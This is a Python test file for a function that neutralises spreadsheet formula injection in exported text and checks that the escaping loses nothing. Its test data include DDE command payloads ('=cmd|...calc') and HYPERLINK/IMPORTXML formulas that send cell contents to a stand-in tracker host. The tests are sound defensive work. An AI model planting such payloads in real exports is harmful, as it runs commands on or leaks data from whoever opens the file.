"""Text that a spreadsheet would run is made harmless, and none is lost by it."""

import doctest

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import given
from hypothesis import strategies as st

from userlane import formulas
from userlane.formulas import escape, unescape

SIGNS = tuple("=+-@＝＋－＠")
TEXTS = st.text(st.characters(exclude_categories=["Cs"]))
PARTS = ["'", "''", " ", "\u00a0", "\u200b", "\ufeff", "\t", "\r", "\n", "\0", *'=+-@＝＋－＠a1,;"']
RISKY_TEXTS = st.lists(st.sampled_from(PARTS)).map("".join)

AT_THE_START = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "\nx",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "'=1",
    "''  +1",
    "  =1",
    "\u00a0=1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b\u200d=1",
    "\u202e=1",
    "\0=1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://tracker.example/"&A1,"open")',
    '=IMPORTXML("http://tracker.example/"&A1,"//a")',
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@given(TEXTS | RISKY_TEXTS)
def test_every_text_comes_back(text: str) -> None:
    assert unescape(escape(text)) == text


@given(TEXTS | RISKY_TEXTS)
def test_no_escaped_text_begins_like_a_formula_even_when_a_program_trims_it(text: str) -> None:
    assert not escape(text).lstrip().startswith(SIGNS)


@given(TEXTS | RISKY_TEXTS, st.sampled_from([";", "\t", "\n", "\r"]))
def test_no_part_begins_like_a_formula_either(text: str, delimiter: str) -> None:
    """A spreadsheet that cuts at another delimiter than the file's finds nothing to run."""
    assert not any(part.lstrip().startswith(SIGNS) for part in escape(text).split(delimiter))


@given(st.lists(TEXTS | RISKY_TEXTS))
def test_columns_are_escaped_like_single_texts(texts: list[str]) -> None:
    """The two expressions mean the same to the library that escapes millions of cells at once."""
    inside = pc.replace_substring_regex(pa.array(texts, pa.string()), formulas.INSIDE, r"\1'\2")
    found = pc.replace_substring_regex(inside, formulas.AT_START, r"'\1", max_replacements=1)
    assert found.to_pylist() == [escape(text) for text in texts]


@pytest.mark.parametrize("text", AT_THE_START)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert escape(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("a;=1+1;b", "a;'=1+1;b"),
        ("a\n=1+1", "a\n'=1+1"),
        ("a\r\n @x", "a\r\n' @x"),
        ("a\t+1\t'-1", "a\t'+1\t''-1"),
        ("\t=1", "'\t'=1"),
    ],
)
def test_what_would_run_inside_a_text_too(text: str, escaped: str) -> None:
    assert escape(text) == escaped


@pytest.mark.parametrize(
    "text", ["it's", "'tis", "a=b", "1-2", "", " ", "“=1”", "5", "x@y.z", "a; b", "a, -1", "one\ntwo", "−1"]
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert escape(text) == text
    assert unescape(text) == text


def test_the_examples_in_the_documentation_are_true() -> None:
    assert doctest.testmod(formulas).failed == 0
